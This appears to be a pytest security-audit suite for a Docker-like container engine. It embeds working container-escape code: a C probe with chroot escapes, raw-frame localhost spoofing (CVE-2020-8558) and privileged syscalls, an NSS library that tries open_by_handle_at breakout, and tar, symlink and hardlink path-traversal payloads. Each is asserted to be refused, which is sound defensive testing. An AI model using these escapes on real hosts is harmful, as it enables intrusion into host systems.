"""Security audit: attacks on tugboat as an attacker would try them, each asserting it is refused.

Everything runs against a real `tug daemon` (its own data root under a world-traversable /tmp dir,
as /var/lib is, and its own network instance) and real containers. The attacker's tools are one
static C program (``PROBE_C`` below) bind-mounted into containers. Tests of attacks that currently
SUCCEED are marked ``skip`` with the finding's number (see the security audit report); unskip
each after its fix.
"""

from __future__ import annotations

import contextlib
import datetime
import hashlib
import io
import json
import os
import shutil
import socket
import ssl
import stat
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

import engine_support
from conftest import require_binary
from engine_support import Daemon
from tar_support import raw_tar_header

pytestmark = pytest.mark.root

if os.geteuid() != 0:
    pytest.skip("needs root", allow_module_level=True)

TUG = [sys.executable, "-m", "tugboat.cli.main"]
DOCKER_DEFAULT_CAPS = 0xA80425FB  # chown dac_override fowner fsetid kill setgid setuid setpcap
# net_bind_service net_raw sys_chroot mknod audit_write setfcap
DOCKER_MASKED = ["/proc/asound", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/latency_stats",
                 "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware",
                 "/sys/devices/virtual/powercap"]
DOCKER_READONLY = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]

PROBE_C = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static void rep(const char *w, long r) {
    if (r < 0) printf("%s: errno=%d\n", w, errno); else printf("%s: ok\n", w);
    fflush(stdout);
}
static uint16_t csum(const void *p, int n) {
    const uint16_t *w = p; uint32_t s = 0;
    for (; n > 1; n -= 2) s += *w++;
    if (n) s += *(const uint8_t *)w;
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}
/* one UDP datagram to 127.0.0.1:port in an Ethernet frame addressed to the default gateway's MAC
   (the CVE-2020-8558 attack; needs only CAP_NET_RAW, a Docker default) */
static int udp127(int port, const char *msg) {
    FILE *f = fopen("/proc/net/route", "r");
    char line[256], ifn[32] = ""; unsigned dst, gw = 0, fl;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%31s %x %x %x", ifn, &dst, &gw, &fl) == 4 && dst == 0 && gw) break;
    if (f) fclose(f);
    if (!gw) { printf("udp127: no default route\n"); return 1; }
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in g = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = gw};
    sendto(u, "x", 1, 0, (void *)&g, sizeof g);
    unsigned char gmac[6] = {0}; int have = 0;
    char ip[32], hw[32], gws[32]; inet_ntop(AF_INET, &gw, gws, sizeof gws);
    for (int t = 0; t < 50 && !have; t++) {
        usleep(20000);
        f = fopen("/proc/net/arp", "r");
        while (f && fgets(line, sizeof line, f))
            if (sscanf(line, "%31s %*s %*s %31s", ip, hw) == 2 && !strcmp(ip, gws))
                have = sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gmac[0], &gmac[1], &gmac[2], &gmac[3],
                              &gmac[4], &gmac[5]) == 6 && (gmac[0] | gmac[1] | gmac[2] | gmac[3] | gmac[4] | gmac[5]);
        if (f) fclose(f);
    }
    if (!have) { printf("udp127: gateway MAC unknown\n"); return 1; }
    struct ifreq ifr; memset(&ifr, 0, sizeof ifr); strncpy(ifr.ifr_name, ifn, IFNAMSIZ - 1);
    if (ioctl(u, SIOCGIFHWADDR, &ifr) < 0) { rep("udp127: hwaddr", -1); return 1; }
    unsigned char smac[6]; memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(u, SIOCGIFADDR, &ifr) < 0) { rep("udp127: ifaddr", -1); return 1; }
    uint32_t sip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    if (ioctl(u, SIOCGIFINDEX, &ifr) < 0) { rep("udp127: ifindex", -1); return 1; }
    int s = socket(AF_PACKET, SOCK_RAW, htons(0x0800));
    if (s < 0) { rep("udp127: AF_PACKET", -1); return 1; }
    unsigned char fr[128]; memset(fr, 0, sizeof fr);
    int len = (int)strlen(msg);
    memcpy(fr, gmac, 6); memcpy(fr + 6, smac, 6); fr[12] = 0x08; fr[13] = 0x00;
    unsigned char *iph = fr + 14;
    iph[0] = 0x45; uint16_t tot = htons(20 + 8 + len); memcpy(iph + 2, &tot, 2);
    iph[8] = 64; iph[9] = 17; memcpy(iph + 12, &sip, 4);
    uint32_t dip = htonl(0x7f000001); memcpy(iph + 16, &dip, 4);
    uint16_t c = csum(iph, 20); memcpy(iph + 10, &c, 2);
    unsigned char *udp = iph + 20;
    uint16_t sp = htons(40000), dp = htons(port), ul = htons(8 + len);
    memcpy(udp, &sp, 2); memcpy(udp + 2, &dp, 2); memcpy(udp + 4, &ul, 2);
    memcpy(udp + 8, msg, len);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, gmac, 6);
    for (int k = 0; k < 3; k++)
        if (sendto(s, fr, 14 + 28 + len, 0, (void *)&to, sizeof to) < 0) { rep("udp127: sendto", -1); return 1; }
    printf("udp127: sent\n");
    return 0;
}
int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        const char *c = argv[i];
        const char *a1 = i + 1 < argc ? argv[i + 1] : "";
        if (!strcmp(c, "userns")) rep(c, syscall(SYS_unshare, CLONE_NEWUSER));
        else if (!strcmp(c, "mntns")) rep(c, syscall(SYS_unshare, CLONE_NEWNS));
        else if (!strcmp(c, "keyctl")) rep(c, syscall(SYS_keyctl, 0, -3, 0, 0, 0));
        else if (!strcmp(c, "mount")) rep(c, mount("none", "/mnt", "tmpfs", 0, 0));
        else if (!strcmp(c, "mountcg")) rep(c, mount("cgroup", "/mnt", "cgroup", 0, "memory"));
        else if (!strcmp(c, "remountsys")) rep(c, mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
        else if (!strcmp(c, "obh")) rep(c, syscall(SYS_open_by_handle_at, -1, 0, 0));
        else if (!strcmp(c, "kexec")) rep(c, syscall(SYS_kexec_load, 0, 0, 0, 0));
        else if (!strcmp(c, "bpf")) rep(c, syscall(SYS_bpf, 0, 0, 0));
        else if (!strcmp(c, "perf")) rep(c, syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
        else if (!strcmp(c, "initmod")) rep(c, syscall(SYS_init_module, 0, 0, ""));
        else if (!strcmp(c, "settime")) { struct timespec t = {0, 0}; rep(c, syscall(SYS_clock_settime, 0, &t)); }
        else if (!strcmp(c, "reboot")) rep(c, syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x1234567, 0));
        else if (!strcmp(c, "swapon")) rep(c, syscall(SYS_swapon, "/x", 0));
        else if (!strcmp(c, "euid")) { printf("euid=%d\n", geteuid()); fflush(stdout); }
        else if (!strcmp(c, "read")) { i++; char b[16]; int fd = open(a1, O_RDONLY);
            if (fd < 0) { printf("read %s: errno=%d\n", a1, errno); }
            else { long n = read(fd, b, sizeof b); if (n < 0) printf("read %s: errno=%d\n", a1, errno);
                   else printf("read %s: %ld bytes\n", a1, n); close(fd); }
            fflush(stdout); }
        else if (!strcmp(c, "write")) { i++; int fd = open(a1, O_WRONLY);
            if (fd < 0) { printf("write %s: errno=%d\n", a1, errno); }
            else { long n = write(fd, "1", 1); if (n < 0) printf("write %s: errno=%d\n", a1, errno);
                   else printf("write %s: ok\n", a1); close(fd); }
            fflush(stdout); }
        else if (!strcmp(c, "mknod") && i + 3 < argc) {
            /* mknod <b|c> <major> <minor>: make /tmp/node and open it */
            int mode = argv[i + 1][0] == 'b' ? S_IFBLK : S_IFCHR;
            dev_t d = makedev(atoi(argv[i + 2]), atoi(argv[i + 3])); i += 3;
            unlink("/tmp/node");
            rep("mknod", mknod("/tmp/node", mode | 0600, d));
            rep("opennode", open("/tmp/node", O_RDONLY));
        } else if (!strcmp(c, "chroot")) {
            /* the classic double-chroot escape, then look for a host path */
            i++;
            mkdir("/tmp/jail", 0755);
            int fd = open("/", O_RDONLY);
            if (chroot("/tmp/jail") < 0) { rep("chroot", -1); continue; }
            if (fchdir(fd) < 0) { rep("fchdir", -1); continue; }
            for (int k = 0; k < 64; k++) if (chdir("..") < 0) break;
            if (chroot(".") < 0) { rep("chroot2", -1); continue; }
            struct stat st; rep("escape", stat(a1, &st));
        } else if (!strcmp(c, "udp127")) { i += 2; udp127(atoi(a1), i < argc ? argv[i] : "x"); }
        else { printf("%s: unknown\n", c); fflush(stdout); }
    }
    return 0;
}
"""


# ---- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def probe(tmp_path_factory: pytest.TempPathFactory) -> str:
    gcc = require_binary("gcc")
    d = tmp_path_factory.mktemp("secprobe")
    (d / "probe.c").write_text(PROBE_C)
    out = str(d / "probe")
    r = subprocess.run([gcc, "-O2", "-static", "-o", out, str(d / "probe.c")], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    return out


@pytest.fixture(scope="module")
def world() -> Iterator[str]:
    """A directory that anyone may traverse, as /var/lib is: the daemon's root goes inside."""
    base = tempfile.mkdtemp(prefix="tug-sec-", dir="/tmp")
    os.chmod(base, 0o755)
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def daemon(world: str) -> Iterator[Daemon]:
    root = os.path.join(world, "root")
    os.makedirs(root)
    engine_support.bootstrap_busybox(root)
    inst = "sa" + os.urandom(2).hex()
    d = Daemon(root=root, sock=os.path.join(world, "tug.sock"), env={"TUG_NETWORK_INSTANCE": inst})
    d.start()
    try:
        yield d
    finally:
        with contextlib.suppress(Exception):
            ids = d.tug("ps", "-aq").stdout.split()
            if ids:
                d.tug("rm", "-f", *[i.decode() for i in ids], timeout=120)
        with contextlib.suppress(Exception):
            for net in d.client().get("/networks"):
                if net["Name"] not in ("bridge", "host", "none"):
                    d.client().delete(f"/networks/{net['Id']}")
        d.stop()
        engine_support.cleanup_root(root)
        tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
        assert f"tugboat-{inst}" not in tables


def _run(d: Daemon, *args: str, timeout: float = 60) -> tuple[int, str]:
    p = d.tug("run", "--rm", *args, timeout=timeout)
    return p.returncode, (p.stdout + p.stderr).decode(errors="replace")


def _probe_run(d: Daemon, probe: str, *args: str, opts: tuple[str, ...] = ()) -> str:
    code, out = _run(d, *opts, "-v", f"{probe}:/probe:ro", "busybox", "/probe", *args)
    assert code == 0, out
    return out


def _status(d: Daemon, *opts: str) -> dict[str, str]:
    code, out = _run(d, *opts, "busybox", "cat", "/proc/self/status")
    assert code == 0, out
    return {k: v.strip() for k, _, v in (line.partition(":") for line in out.splitlines()) if v}


def _tar(entries: list[tuple[str, str, Any]], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """A tar of (name, kind, data): kind file|suid|dir|sym|lnk|blk|chr."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt) as t:
        for name, kind, data in entries:
            ti = tarfile.TarInfo(name)
            ti.mode = 0o644
            if kind == "sym":
                ti.type, ti.linkname = tarfile.SYMTYPE, data
                t.addfile(ti)
            elif kind == "lnk":
                ti.type, ti.linkname = tarfile.LNKTYPE, data
                t.addfile(ti)
            elif kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
                t.addfile(ti)
            elif kind in ("blk", "chr"):
                ti.type = tarfile.BLKTYPE if kind == "blk" else tarfile.CHRTYPE
                ti.devmajor, ti.devminor = data
                ti.mode = 0o666
                t.addfile(ti)
            else:
                ti.size = len(data)
                ti.mode = 0o4755 if kind == "suid" else (0o755 if kind == "exe" else 0o644)
                t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def _docker_archive(layers: list[bytes], tag: str, diff_ids: list[str] | None = None) -> bytes:
    diff_ids = diff_ids or ["sha256:" + hashlib.sha256(raw).hexdigest() for raw in layers]
    cfg = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["/probe"]},
                      "rootfs": {"type": "layers", "diff_ids": diff_ids}}).encode()
    cname = hashlib.sha256(cfg).hexdigest() + ".json"
    files = [(cname, cfg)] + [(f"l{i}/layer.tar", raw) for i, raw in enumerate(layers)]
    files.append(("manifest.json", json.dumps([{"Config": cname, "RepoTags": [tag],
                                                 "Layers": [f"l{i}/layer.tar" for i in range(len(layers))]}]).encode()))
    return _tar([(n, "file", data) for n, data in files], fmt=tarfile.USTAR_FORMAT)


def _load(d: Daemon, archive: bytes) -> dict[str, Any]:
    """The load's last message; a refusal either way (an error status or an error in the stream) is
    returned as ``{"error": …}``."""
    try:
        r = d.client().call("POST", "/images/load", raw_body=archive,
                            headers={"Content-Type": "application/x-tar"}, query={"quiet": "1"})
    except Exception as exc:
        return {"error": str(exc), "status": True}
    return r if isinstance(r, dict) else {"stream": str(r)}


def _listing(path: str) -> list[str]:
    out = []
    for dirpath, dirs, files in os.walk(path):
        out += [os.path.relpath(os.path.join(dirpath, n), path) for n in dirs + files]
    return sorted(out)


@pytest.fixture
def host_target(world: str) -> Iterator[str]:
    """A host directory with a secret, that attacks aim at; tests assert it is unchanged."""
    t = tempfile.mkdtemp(prefix="target-", dir=world)
    with open(os.path.join(t, "secret"), "w") as f:
        f.write("HOST-SECRET\n")
    try:
        yield t
    finally:
        shutil.rmtree(t, ignore_errors=True)


def _assert_untouched(target: str) -> None:
    assert _listing(target) == ["secret"], _listing(target)
    with open(os.path.join(target, "secret")) as f:
        assert f.read() == "HOST-SECRET\n"
    with open("/proc/self/mountinfo") as f:
        assert target not in f.read(), "something was mounted over the host target"


def _commit(d: Daemon, name: str, script: str) -> None:
    p = d.tug("run", "--name", f"mk-{name}", "busybox", "sh", "-c", script)
    assert p.returncode == 0, p.stderr
    p = d.tug("commit", f"mk-{name}", name)
    assert p.returncode == 0, p.stderr
    assert d.tug("rm", f"mk-{name}").returncode == 0


# ---- inside a container: privileges ------------------------------------------------------------


def test_capabilities_are_dockers_default_and_seccomp_is_loaded(daemon: Daemon) -> None:
    st = _status(daemon)
    assert int(st["CapEff"], 16) == DOCKER_DEFAULT_CAPS, st["CapEff"]
    assert int(st["CapBnd"], 16) == DOCKER_DEFAULT_CAPS, st["CapBnd"]
    assert int(st["CapPrm"], 16) == DOCKER_DEFAULT_CAPS
    assert int(st["CapInh"], 16) == 0 and int(st["CapAmb"], 16) == 0
    assert st["Seccomp"] == "2", "no seccomp filter in the container"
    assert st["NoNewPrivs"] == "0"  # Docker's default
    assert _status(daemon, "--security-opt", "no-new-privileges")["NoNewPrivs"] == "1"
    # a non-root user has no capabilities at all; added capabilities keep the filter on
    user = _status(daemon, "--user", "1000:1000")
    assert int(user["CapEff"], 16) == 0 and int(user["CapPrm"], 16) == 0
    for opts in (("--cap-add", "SYS_ADMIN"), ("--cap-drop", "ALL"), ("--cap-add", "SYS_PTRACE")):
        assert _status(daemon, *opts)["Seccomp"] == "2", opts


def test_seccomp_and_capabilities_refuse_kernel_attacks(daemon: Daemon, probe: str) -> None:
    calls = ["userns", "mntns", "keyctl", "mount", "mountcg", "remountsys", "obh", "kexec", "bpf", "perf",
             "initmod", "settime", "reboot", "swapon"]
    out = _probe_run(daemon, probe, *calls)
    for c in calls:
        assert f"{c}: errno=1\n" in out, out  # EPERM every time


def test_devices_of_the_host_cannot_be_opened(daemon: Daemon, probe: str) -> None:
    # /dev holds only Docker's harmless set
    code, out = _run(daemon, "busybox", "sh", "-c", "ls /dev")
    assert code == 0
    assert set(out.split()) <= {"core", "fd", "full", "mqueue", "null", "ptmx", "pts", "random", "shm", "stderr",
                                "stdin", "stdout", "tty", "urandom", "zero", "console"}, out
    disk = _host_block_device()
    out = _probe_run(daemon, probe, "mknod", "b", str(disk[0]), str(disk[1]), "mknod", "c", "1", "1",
                     "mknod", "c", "1", "2")
    assert out.count("opennode:") == 3, out
    assert "opennode: ok" not in out, out  # the host's disk, /dev/mem, /dev/kmem


def _host_block_device() -> tuple[int, int]:
    with open("/proc/partitions") as f:
        for line in f.readlines()[2:]:
            parts = line.split()
            if len(parts) == 4:
                return int(parts[0]), int(parts[1])
    return 254, 0


def test_proc_and_sys_are_masked_or_read_only(daemon: Daemon, probe: str) -> None:
    args: list[str] = []
    for p in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
              "/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
              "/sys/fs/cgroup/memory/notify_on_release", "/sys/fs/cgroup/cgroup.procs"):
        args += ["write", p]
    for p in DOCKER_MASKED:
        args += ["read", p]
    out = _probe_run(daemon, probe, *args)
    assert ": ok\n" not in out, out
    for p in DOCKER_MASKED:
        if os.path.exists(p) and os.path.isfile(p):
            assert f"read {p}: 0 bytes" in out or f"read {p}: errno=" in out, (p, out)
    _code, out = _run(daemon, "busybox", "sh", "-c",
                     "mkdir /sys/fs/cgroup/memory/esc; echo mk=$?; cat /proc/self/mountinfo")
    assert "mk=1" in out, out  # no child cgroup (v1 release_agent attack needs one)
    checked = 0
    for line in out.splitlines():
        f = line.split()
        if len(f) > 5 and (f[4] in ("/sys", "/proc/sys") or f[4].startswith("/sys/fs/cgroup")):
            assert "ro" in f[5].split(","), line
            checked += 1
    assert checked >= 3, out
    # /proc/acpi, /sys/firmware are hidden where they exist
    _code, out = _run(daemon, "busybox", "sh", "-c", "ls -A /sys/firmware /proc/acpi 2>/dev/null | grep -v : | wc -w")
    assert out.strip() == "0", out


def test_chroot_escape_and_host_visibility(daemon: Daemon, probe: str, world: str) -> None:
    marker = os.path.join(world, "host-marker")
    open(marker, "w").close()
    try:
        out = _probe_run(daemon, probe, "chroot", marker)
        assert "escape: errno=2" in out, out  # the host file stays out of reach
    finally:
        os.unlink(marker)
    _code, out = _run(daemon, "busybox", "sh", "-c",
                     "ls /proc | grep -cE '^[0-9]+$'; find / -xdev -type s 2>/dev/null | wc -l; "
                     "ls /proc/1/root/ | grep -c tug; kill -9 1; echo alive")
    lines = out.split()
    assert int(lines[0]) <= 6, out  # only the container's own processes
    assert lines[1] == "0", out  # no unix socket (the daemon's) in the container
    assert lines[-1] == "alive", out  # pid 1 ignores SIGKILL from inside
    assert not os.path.exists(daemon.sock) or daemon.sock not in out


def test_exec_processes_are_confined_like_the_container(daemon: Daemon) -> None:
    p = daemon.tug("run", "-d", "--name", "execc", "busybox", "sleep", "60")
    assert p.returncode == 0, p.stderr
    try:
        for opts in ((), ("--privileged",), ("-u", "0")):
            ex = daemon.tug("exec", *opts, "execc", "sh", "-c",
                            "grep -E '^(CapEff|CapBnd|Seccomp):' /proc/self/status; cat /proc/self/cgroup; "
                            "ls /proc | grep -cE '^[0-9]+$'")
            out = ex.stdout.decode()
            st = dict(line.split(":", 1) for line in out.splitlines() if line.startswith(("Cap", "Seccomp")))
            assert st["Seccomp"].strip() == "2", (opts, out)
            if not opts or opts[0] != "--privileged":
                assert int(st["CapEff"], 16) == DOCKER_DEFAULT_CAPS, (opts, out)
                assert int(st["CapBnd"], 16) == DOCKER_DEFAULT_CAPS, (opts, out)
            cid = daemon.client().get("/containers/execc/json")["Id"]
            assert all(cid in line for line in out.splitlines() if line.count(":") >= 2 and "/" in line), out
            assert int(out.split()[-1]) <= 6, out  # the container's pid namespace
    finally:
        daemon.tug("rm", "-f", "execc")


def test_read_only_rootfs_refuses_writes(daemon: Daemon) -> None:
    _code, out = _run(daemon, "--read-only", "busybox", "sh", "-c",
                     "touch /x; echo root=$?; touch /etc/x; echo etc=$?; touch /tmp/x; echo tmp=$?")
    assert "root=1" in out and "etc=1" in out and "tmp=1" in out, out


def test_read_only_rootfs_covers_engine_files(daemon: Daemon) -> None:
    _code, out = _run(daemon, "--read-only", "busybox", "sh", "-c",
                     "for f in /etc/hosts /etc/resolv.conf /etc/hostname; do echo x >> $f; echo $f=$?; done")
    for f in ("/etc/hosts", "/etc/resolv.conf", "/etc/hostname"):
        assert f"{f}=1" in out, out  # Docker mounts them read-only under ReadonlyRootfs


# ---- mounts, volumes and copies through symlinks ----------------------------------------------


def test_mount_destinations_through_symlinks_stay_in_the_rootfs(daemon: Daemon, host_target: str,
                                                                world: str) -> None:
    _commit(daemon, "evil-mnt", f"ln -s {host_target} /evil; ln -s /proc/self/root{host_target} /evilp; "
                                f"mkdir /d; ln -s {host_target}/newfile /d/evilf")
    src = tempfile.mkdtemp(prefix="src-", dir=world)
    try:
        with open(os.path.join(src, "f"), "w") as f:
            f.write("src\n")
        for dest in ("/evil", "/evilp"):
            code, out = _run(daemon, "-v", f"{src}:{dest}", "evil-mnt", "sh", "-c", f"cat {dest}/f; touch {dest}/w")
            assert code == 0 and "src" in out, out
            assert _run(daemon, "--tmpfs", dest, "evil-mnt", "true")[0] == 0
            assert _run(daemon, "-v", f"vol{dest[1:]}:{dest}", "evil-mnt", "touch", f"{dest}/v")[0] == 0
            _assert_untouched(host_target)
        _run(daemon, "-v", f"{src}/f:/d/evilf", "evil-mnt", "true")
        _assert_untouched(host_target)
    finally:
        shutil.rmtree(src, ignore_errors=True)


def test_volume_copy_up_copies_symlinks_not_host_files(daemon: Daemon, host_target: str) -> None:
    _commit(daemon, "evil-cu", f"mkdir /data; ln -s {host_target}/secret /data/link; ln -s {host_target} /data/dir")
    _code, out = _run(daemon, "-v", "cuvol:/data", "evil-cu", "sh", "-c", "cat /data/link /data/dir/secret")
    assert "HOST-SECRET" not in out
    data = daemon.client().get("/volumes/cuvol")["Mountpoint"]
    assert os.readlink(os.path.join(data, "link")) == f"{host_target}/secret"
    _assert_untouched(host_target)


def test_archive_put_and_cp_stay_in_the_container(daemon: Daemon, host_target: str, world: str) -> None:
    c = daemon.client()
    cid = c.post("/containers/create", {"Image": "busybox", "Cmd": ["sleep", "60"],
                                        "HostConfig": {"Binds": ["cpvol:/data"]}})["Id"]
    t = host_target
    attacks = {
        "dotdot": [("../../../../../../.." + t + "/dotdot", "file", b"x")],
        "abs": [(t + "/abs", "file", b"x")],
        "symfile": [("l", "sym", t), ("l/symfile", "file", b"x")],
        "symrel": [("l2", "sym", "../../../../../../../.." + t), ("l2/symrel", "file", b"x")],
        "hardlink": [("h", "lnk", t + "/secret")],
        "hardlinkdd": [("h2", "lnk", "../../../../../../.." + t + "/secret")],
        "symthenhl": [("l3", "sym", t), ("h3", "lnk", "l3/secret")],
    }
    for _name, entries in attacks.items():
        with contextlib.suppress(Exception):
            c.put(f"/containers/{cid}/archive", raw_body=_tar(entries), query={"path": "/"})
        _assert_untouched(t)
    c.post(f"/containers/{cid}/start")
    p = daemon.tug("exec", cid, "sh", "-c", f"ln -s {t} /data/esc; ln -s {t}/secret /data/sec; cat /h /h2 /h3")
    assert b"HOST-SECRET" not in p.stdout
    payload = os.path.join(world, "payload")
    with open(payload, "w") as f:
        f.write("payload\n")
    try:
        for dst in (f"{cid}:/data/esc/", f"{cid}:/data/esc/p2", f"{cid}:/l/", f"{cid}:/l/p3"):
            daemon.tug("cp", payload, dst)
            _assert_untouched(t)
        for srcp in ("/data/sec", "/data/esc/secret", "/l/secret", "/h"):
            p = daemon.tug("cp", f"{cid}:{srcp}", "-")
            assert b"HOST-SECRET" not in p.stdout, srcp
        daemon.tug("stop", "-t", "0", cid)
        for dst in (f"{cid}:/data/esc/", f"{cid}:/l/p4"):
            daemon.tug("cp", payload, dst)
            _assert_untouched(t)
        p = daemon.tug("cp", f"{cid}:/data/esc/secret", "-")
        assert b"HOST-SECRET" not in p.stdout
    finally:
        os.unlink(payload)
        daemon.tug("rm", "-f", "-v", cid)


NSS_C = r"""
/* a library the container offers to whoever resolves user names in its root through NSS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static int mark(int dirfd, const char *rel, const char *how) {
    char buf[128];
    int n = snprintf(buf, sizeof buf, "pid=%d uid=%d via=%s\n", getpid(), getuid(), how);
    int o = openat(dirfd, rel, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (o < 0) return -1;
    if (write(o, buf, n) < 0) {}
    close(o);
    return 0;
}
__attribute__((constructor)) static void pwn(void) {
    mark(AT_FDCWD, "/tmp/nss-loaded", "loaded");  /* inside the container: proof of loading */
    mkdir("/.esc", 0755);
    int fd = open("/", O_RDONLY);
    if (chroot("/.esc") == 0 && fchdir(fd) == 0) {
        for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
        if (chroot(".") < 0) {}
    }
    if (access(MARKER_DIR "/.hostonly", F_OK) == 0 && mark(AT_FDCWD, MARKER_DIR "/PWNED", "chroot") == 0) return;
    int any = open("/etc/hosts", O_RDONLY);
    struct { unsigned int bytes; int type; unsigned int ino, gen; } h = {8, 1, 2, 0};
    int root = open_by_handle_at(any, (struct file_handle *)&h, O_RDONLY | O_DIRECTORY);
    if (root >= 0) mark(root, MARKER_DIR "/PWNED" + 1, "open_by_handle_at");
}
"""


def test_cp_helper_does_not_run_the_containers_code(daemon: Daemon, world: str, tmp_path: Any) -> None:
    gcc = require_binary("gcc")
    marker_dir = tempfile.mkdtemp(prefix="nss-", dir=world)
    open(os.path.join(marker_dir, ".hostonly"), "w").close()
    (tmp_path / "nss.c").write_text(NSS_C)
    lib = str(tmp_path / "libnss_evil.so.2")
    r = subprocess.run([gcc, "-shared", "-fPIC", "-O2", f'-DMARKER_DIR="{marker_dir}"', "-o", lib,
                        str(tmp_path / "nss.c")], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    shutil.copy(lib, os.path.join(marker_dir, "lib.so"))
    p = daemon.tug("run", "-d", "--name", "nssc", "-v", f"{marker_dir}/lib.so:/evil.so:ro", "busybox", "sh", "-c",
                   "for d in /lib/x86_64-linux-gnu /usr/lib/x86_64-linux-gnu /lib /usr/lib /lib64; do "
                   "mkdir -p $d; cp /evil.so $d/libnss_evil.so.2; done; "
                   "printf 'passwd: evil\\ngroup: evil\\n' > /etc/nsswitch.conf; sleep 60")
    assert p.returncode == 0, p.stderr
    pwned = os.path.join(marker_dir, "PWNED")
    try:
        time.sleep(0.5)
        assert daemon.tug("exec", "nssc", "cat", "/etc/nsswitch.conf").stdout == b"passwd: evil\ngroup: evil\n"
        for state in ("running", "stopped"):
            assert daemon.tug("cp", "nssc:/etc/passwd", "-").returncode == 0
            assert daemon.tug("export", "nssc").returncode == 0
            assert not os.path.exists(pwned), f"{state}: the container's code ran on the host as root"
            if state == "running":
                loaded = daemon.tug("exec", "nssc", "cat", "/tmp/nss-loaded")
                assert loaded.returncode != 0, f"the helper loaded the container's library: {loaded.stdout!r}"
                daemon.tug("stop", "-t", "0", "nssc")
    finally:
        daemon.tug("rm", "-f", "nssc")
        shutil.rmtree(marker_dir, ignore_errors=True)


def test_user_lookup_does_not_follow_symlinks_to_the_host(daemon: Daemon, world: str) -> None:
    hostfile = os.path.join(world, "host-passwd")
    with open(hostfile, "w") as f:
        f.write("hostuser:x:4242:4343::/host-home:/bin/sh\n")
    p = daemon.tug("run", "-d", "--name", "pwc", "busybox", "sh", "-c", f"ln -sf {hostfile} /etc/passwd; sleep 60")
    assert p.returncode == 0, p.stderr
    try:
        time.sleep(0.5)
        assert daemon.tug("exec", "pwc", "readlink", "/etc/passwd").stdout.strip() == hostfile.encode()
        ex = daemon.tug("exec", "-u", "hostuser", "pwc", "id", "-u")
        assert ex.stdout.strip() != b"4242", "the engine read a host file named by the container"
    finally:
        daemon.tug("rm", "-f", "pwc")
        os.unlink(hostfile)


def test_build_copy_cannot_leave_the_context(daemon: Daemon, host_target: str, world: str) -> None:
    ctx = tempfile.mkdtemp(prefix="ctx-", dir=world)
    try:
        os.makedirs(os.path.join(ctx, "sub"))
        os.symlink(host_target, os.path.join(ctx, "abslink"))
        os.symlink("../../../../../../../.." + host_target, os.path.join(ctx, "sub", "rellink"))
        os.symlink(host_target + "/secret", os.path.join(ctx, "filelink"))
        for src in ("abslink/secret", "sub/rellink/secret", "filelink", "abslink", "sub/rellink", "../secret",
                    "/" + host_target + "/secret"):
            with open(os.path.join(ctx, "Dockerfile"), "w") as f:
                f.write(f"FROM busybox\nCOPY {src} /got\n")
            daemon.tug("build", "-q", "-t", "evil-build", ctx, timeout=120)
            _code, out = _run(daemon, "evil-build", "sh", "-c", "cat /got /got/secret 2>/dev/null")
            assert "HOST-SECRET" not in out, src
            daemon.tug("rmi", "-f", "evil-build")
    finally:
        shutil.rmtree(ctx, ignore_errors=True)


# ---- hostile images --------------------------------------------------------------------------


def test_hostile_image_layers_are_refused_or_contained(daemon: Daemon, host_target: str, probe: str) -> None:
    t = host_target
    with open(probe, "rb") as f:
        probe_bytes = f.read()
    refused = {
        "dotdot": [[("../../../../../.." + t + "/dotdot", "file", b"x")]],
        "abs": [[(t + "/abs", "file", b"x")]],
        "hardlinkabs": [[("h", "lnk", t + "/secret")]],
        "hardlinkdd": [[("h", "lnk", "../../../../../.." + t + "/secret")]],
        "hardlinkviasym": [[("l", "sym", t), ("h", "lnk", "l/secret")]],
        "hardlinkviasym2": [[("l", "sym", t)], [("h", "lnk", "l/secret")]],
    }
    for name, layers in refused.items():
        r = _load(daemon, _docker_archive([_tar(layer) for layer in layers], f"evil-{name}:latest"))
        assert "error" in r, (name, r)
        assert daemon.tug("image", "inspect", f"evil-{name}").returncode != 0
